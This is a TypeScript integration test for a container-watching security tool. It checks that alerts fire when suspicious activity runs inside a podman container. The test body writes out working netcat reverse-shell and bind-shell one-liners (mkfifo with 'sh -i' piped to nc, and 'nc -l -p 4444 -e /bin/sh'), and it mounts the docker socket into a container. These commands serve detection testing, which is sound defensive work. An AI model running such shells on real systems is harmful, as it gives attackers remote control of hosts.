import { spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sensor } from '../src/collect/sensors/process-events/index.ts';
import { until } from './support/until.ts';
import { OwnPodman } from './support/own-podman.ts';

const main = join(import.meta.dirname, '../src/cli/main.ts');
const folder = mkdtempSync(join(tmpdir(), 'vkt-'));
const podman = (await sensor.whyNot()) === undefined ? await OwnPodman.start(folder) : undefined;
type Told = Readonly<Record<string, unknown>>;
const told: Told[] = [];
let watch: ChildProcess | undefined;

beforeAll(() => {
  if (podman === undefined) return;
  const sensors = ['--sensor', 'process-events', '--engine', podman.socket];
  const args = ['watch', ...sensors, '--case', join(folder, 'case'), '--json', '--quiet', '--repeat-window', '1'];
  const child = spawn(process.execPath, [main, ...args], { stdio: ['ignore', 'pipe', 'ignore'] });
  createInterface({ input: child.stdout }).on('line', (line) => told.push(JSON.parse(line) as Told));
  watch = child;
});
afterAll(async () => {
  watch?.kill('SIGKILL');
  await podman?.stop();
  rmSync(folder, { recursive: true, force: true });
});

describe.skipIf(podman === undefined)('a watch over containers of podman', () => {
  it('tells what happens in a container by its name and image', { timeout: 120_000 }, async () => {
    const { image, socket } = podman as OwnPodman;
    await until(() => told.some(({ type }) => type === 'status'));
    podman?.run('shop');
    // A program that ends at once may leave its arguments unread: these stay for a moment, and are started until they were seen.
    const alertOf = async (title: RegExp, act: () => void): Promise<Told> => {
      const find = (): Told | undefined =>
        told.find((notice) => notice['type'] === 'alert' && title.test(String(notice['title'])) && 'image' in notice);
      for (let tries = 0; tries < 10 && find() === undefined; tries++) {
        act();
        await until(() => find() !== undefined, 3000).catch(() => undefined);
      }
      return find() ?? {};
    };
    const shell = 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f & sleep 1';
    const wanted = { severity: 'high', container: 'shop', image };
    expect(await alertOf(/Joined to the Network/, () => podman?.exec('shop', shell))).toMatchObject(wanted);
    // Joined by the shell that somebody types into: no command line shows the pipe.
    const typed = ['nc -l -p 4445 < /dev/null > /dev/null &', 'rm -f /tmp/g; mkfifo /tmp/g; sleep 0.3'];
    const joined = [...typed, '(sh -i < /tmp/g 2>&1 | nc 127.0.0.1 4445 > /tmp/g) &', 'sleep 1; kill %1 %2'];
    expect(await alertOf(/beside a Program That Relays/, () => podman?.type('shop', joined))).toMatchObject(wanted);
    const listener = 'nc -l -p 4444 -e /bin/sh & sleep 1; kill $!';
    expect(await alertOf(/Netcat|reverse shell/i, () => podman?.exec('shop', listener))).toMatchObject({
      container: 'shop',
      image,
    });
    const named = join(folder, 'docker.sock');
    symlinkSync(socket, named);
    podman?.run('agent', '-v', `${named}:/var/run/docker.sock`);
    await until(() => told.some((notice) => /Sensitive Part of the Host/.test(String(notice['title']))));
    expect(told.filter((notice) => notice['type'] === 'sensor' && notice['state'] === 'stopped')).toEqual([]);
  });
});
